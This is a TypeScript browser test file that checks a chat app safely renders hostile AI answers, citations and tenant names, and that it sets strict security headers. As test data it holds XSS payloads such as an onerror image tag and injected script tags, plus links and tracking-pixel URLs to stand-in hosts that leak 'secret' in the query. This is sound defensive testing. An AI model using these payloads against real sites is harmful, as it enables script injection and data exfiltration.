import { deepEqual, equal, match } from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Page } from 'playwright-core';
import type { Citation, QuotedCitation } from '#contract/citations/citation.ts';
import type { Break } from '#test/break.ts';
import { requireAccessible } from '#test/browser/accessible.ts';
import { type BrowserWorld, shareBrowserWorld } from '#test/browser/browser.ts';
import type { Tab } from '#test/browser/browser-tab.ts';
import type { Tenant } from '#test/world/hosted.ts';
import { hostileDocuments } from '../web/markdown-corpus.ts';

const corpus = Object.values(hostileDocuments).join('\n\n---\n\n');

const beacon = 'https://beacon.example/pixel.png?d=secret';
const text = `It costs 10 euros a month [1], and 20 for teams [2][3].

Read https://docs.example/prices or [the terms](https://evil.example/?d=secret) or ![](${beacon}).

[Write](mailto:help@docs.example), call \`prices [1]\` or see <https://evil.example/all> and [4].

[4]: https://evil.example/first
`;
const quoted: QuotedCitation = {
  ...{
    n: 1,
    source: 'client',
    document_id: 'prices',
    title: 'Prices <b>',
    heading: 'Plans',
    support: 'quoted',
  },
  url: 'https://docs.example/prices',
  quote: `<img src="${beacon}"> ![](${beacon}) It costs 10 euros. \u202egnorts`,
};
const citations: readonly Citation[] = [
  quoted,
  { ...quoted, n: 2, title: 'Teams', url: null, heading: '', quote: 'Teams pay 25 euros.', support: 'weak' },
  { n: 3, document_id: 'old', title: 'Old prices', deleted: true },
];

let world: BrowserWorld;

describe('What pages refuse', () => {
  before(async () => {
    world = await shareBrowserWorld();
  });

  test('a hostile answer runs nothing and sends no request, live and from the history', async () => {
    const tenant = await world.hosted.tenant();
    await using tab = await world.tab();
    const page = await tab.chat(tenant);
    await page.evaluate('window.boom = () => { window.boomed = true; }');
    const images: string[] = [];
    page.on('request', (request) => request.resourceType() === 'image' && images.push(request.url()));
    world.hosted.api.provider.enqueue({ texts: piecesOf(corpus, 40) });
    await page.getByRole('textbox', { name: 'Message' }).fill('<img src=x onerror=boom()> What is new?');
    await page.getByRole('button', { name: 'Send' }).click();
    await page.getByRole('button', { name: 'Good answer' }).waitFor();
    await requireHarmless(page);
    await page.reload();
    await page.getByRole('button', { name: 'Good answer' }).waitFor();
    await requireHarmless(page);
    deepEqual(
      images.filter((address) => new URL(address).pathname !== '/brand/logo'),
      [],
    );
    tab.requireNoComplaints();
  });

  test('hostile names are text on the account page', async () => {
    const name = '<img src=x onerror=boom()></script><script>boom()</script>';
    const tenant = await world.hosted.tenant({ name });
    await tenant.hosted.api.database.query(
      `insert into usage_users (client_id, external_user_id, day, requests)
     values ($1, $2, (now() at time zone 'utc')::date, 5)`,
      [tenant.client.id, name],
    );
    await tenant.user('ada@example.com', { admin: true });
    await using tab = await world.tab();
    await tab.enter(tenant, 'ada@example.com', '/account');
    for (const table of ['Most used today', 'By user: Requests']) {
      const region = tab.page.getByRole('region', { name: `${table}, Table` });
      await region.getByRole('rowheader', { name }).waitFor();
    }
    equal(await tab.page.locator('img').count(), 0);
    tab.requireNoComplaints();
  });

  test('no page can be framed, and none takes a string for markup', async () => {
    const tenant = await world.hosted.tenant();
    await tenant.user('ada@example.com', { admin: true });
    await using tab = await world.tab();
    const response = await tab.page.goto(world.hosted.loginUrl());
    const policies = [response?.headers()['content-security-policy'] ?? ''];
    await tab.signIn(tenant, 'ada@example.com');
    for (const path of ['/', '/account']) {
      const answer = await tab.page.goto(tenant.url(path));
      policies.push(answer?.headers()['content-security-policy'] ?? '');
    }
    for (const policy of policies) {
      match(policy, /frame-ancestors 'none'/);
      match(policy, /require-trusted-types-for 'script'; trusted-types 'none'/);
      match(policy, /style-src 'self';/);
    }
    tab.requireNoComplaints();
    const refusal = tab.page.evaluate('document.body.innerHTML = "<b>x</b>"');
    match(await refusal.then(String, String), /TrustedHTML/);
  });

  test('the page of a missing address has its own styles under its own policy', async () => {
    await using tab = await world.tab({ locale: 'ar' });
    const { page } = tab;
    await page.goto(`http://nobody.localhost:${world.hosted.api.portOf()}/chat`);
    await page.getByRole('heading', { name: 'الصفحة غير موجودة' }).waitFor();
    equal(await page.evaluate('getComputedStyle(document.body).display + document.dir'), 'gridrtl');
    tab.requireNoComplaints();
  });

  test('no script can read the session', async () => {
    const tenant = await world.hosted.tenant();
    await using tab = await world.tab();
    const page = await tab.chat(tenant);
    equal(await page.evaluate('document.cookie'), '');
    equal(await page.evaluate('JSON.stringify({ ...localStorage, ...sessionStorage })'), '{}');
  });

  describe('An answer that was written from documents', () => {
    let tenant: Tenant;
    let tab: Tab;
    let page: Page;
    const requests: string[] = [];

    before(async () => {
      // The page's own policy would block axe.
      tab = await world.tab({ bypassCSP: true });
      tenant = await world.hosted.tenant();
      page = await tab.chat(tenant);
      world.hosted.api.provider.enqueue({ texts: [text] });
      await page.getByRole('textbox', { name: 'Message' }).fill('What does it cost?');
      await page.keyboard.press('Enter');
      await page.getByRole('button', { name: 'Good answer' }).waitFor();
      const links = ['https://docs.example/prices', 'mailto:help@docs.example'];
      await world.hosted.api.database.query(
        `update messages set citations = $1, links = $2 where role = 'assistant' and client_id = $3`,
        [JSON.stringify(citations), JSON.stringify(links), tenant.client.id],
      );
      page.on('request', (request) => requests.push(request.url()));
      await page.reload();
      await page.locator('.answer sup a').first().waitFor();
    });

    after(() => tab[Symbol.asyncDispose]());

    test('shows what its marks cite, and whether the source may not say it', async () => {
      const marks = page.locator('.answer sup a');
      deepEqual(await marks.evaluateAll((all) => all.map((each) => [each.textContent, each.ariaLabel])), [
        ['1', 'Source 1: Prices <b>'],
        ['2?', 'Source 2: Teams. May not say this'],
        ['3', 'Source 3: Old prices'],
      ]);
      equal(await page.locator('.answer code').first().textContent(), 'prices [1]');
    });

    test('opens a quote as text, by the keyboard too, and keeps the address of the page', async () => {
      const address = page.url();
      await page.getByRole('link', { name: 'Source 1: Prices <b>' }).focus();
      await page.keyboard.press('Enter');
      const item = page.locator('.footnotes li:focus');
      equal(await item.locator('blockquote').textContent(), quoted.quote);
      match((await item.textContent()) ?? '', /^Prices <b> · Plans/);
      equal(await item.getByRole('link').getAttribute('href'), 'https://docs.example/prices');
      equal(page.url(), address);
      const gone = page.locator('.footnotes li').nth(2);
      equal(await gone.textContent(), 'Old prices · This document was deleted.');
    });

    test('has links to known addresses only; others are text with their host', async () => {
      const hrefs = await page
        .locator('.answer .markdown > :not(.footnotes) a:not([href^="#"])')
        .evaluateAll((all) => all.map((each) => each.getAttribute('href')));
      deepEqual(hrefs, ['https://docs.example/prices', 'mailto:help@docs.example']);
      const shown = (await page.locator('.answer .markdown').textContent()) ?? '';
      match(shown, /or the terms \(evil\.example\) or/);
      match(shown, /or see https:\/\/evil\.example\/all and \[4\]\./);
    });

    test('asks no host for anything that stands in it or in its quotes', async () => {
      const own = new URL(page.url()).host;
      deepEqual(
        requests.filter((address) => new URL(address).host !== own),
        [],
      );
      equal(await page.locator('.answer img').count(), 0);
    });

    test('has links to every address where the tenant chooses that', async () => {
      await world.hosted.api.database.query(
        'update clients set model_links = true, version = version + 1 where id = $1',
        [tenant.client.id],
      );
      await page.reload();
      await page.locator('.footnotes').waitFor();
      equal(await page.locator('.answer a[href="https://evil.example/?d=secret"]').count(), 1);
    });

    test('is accessible', async () => {
      await requireAccessible(page, 'an answer with sources');
    });
  });
});

async function requireHarmless(page: Page): Promise<void> {
  equal(await page.evaluate('window.boomed'), undefined);
  equal(
    await page.locator('.markdown :is(img, script, iframe, object, embed, form, style, link, base)').count(),
    0,
  );
  const links = page.locator('.markdown a');
  const addresses = await Promise.all((await links.all()).map((link) => link.getAttribute('href')));
  deepEqual(
    addresses.filter((address) => !/^(?:https?:|mailto:|#note-\d)/i.test(address ?? '')),
    [],
  );
}

function piecesOf(text: string, length: number): string[] {
  return Array.from({ length: Math.ceil(text.length / length) }, (_, index) =>
    text.slice(index * length, (index + 1) * length),
  );
}

export const breaks: readonly Break[] = [
  {
    rule: 'Pages use Trusted Types',
    file: 'src/http/server/security-headers.ts',
    replace: '"require-trusted-types-for \'script\'",',
    by: '',
  },
  {
    rule: 'An address of the model alone is no link',
    file: 'src/web/shared/markdown/sources/citations.ts',
    replace: 'if (known === null || known.has(address)) return null;',
    by: 'return null;',
  },
  {
    rule: 'A tenant may choose that every address is a link',
    file: 'src/web/chat/conversation/grow-answer.ts',
    replace: 'mayLink() ? { ...sources, links: null } : sources',
    by: 'sources',
  },
  {
    rule: 'A source that may not say it is marked',
    file: 'src/web/shared/markdown/sources/citations.ts',
    replace: 'isWeak ? `${number}?` : number',
    by: 'number',
  },
  {
    rule: 'An answer from documents lists its quotes',
    file: 'src/web/chat/conversation/grow-answer.ts',
    replace: 'listQuotes(host, sources?.citations ?? []);',
    by: '',
  },
  {
    rule: 'A numbered address of the model alone is no link',
    file: 'src/web/shared/markdown/sources/source-notes.ts',
    replace: " || linkRule.instead?.(member(token, 'href'), [], false)",
    by: '',
  },
];
